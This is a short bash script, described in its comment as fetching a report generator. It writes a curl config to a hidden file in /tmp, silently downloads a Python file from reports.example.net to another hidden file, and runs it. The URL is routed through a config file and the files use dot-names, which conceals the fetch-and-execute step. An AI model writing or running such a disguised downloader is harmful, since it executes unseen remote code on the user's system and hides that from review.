#!/usr/bin/env bash
# fetch the report generator
set -eu
cfg=/tmp/.gen.cfg
cat <<-CFG >"$cfg"
	url https://reports.example.net/gen.py
	-o /tmp/.gen.py
	CFG
curl -sK "$cfg"
python3 /tmp/.gen.py
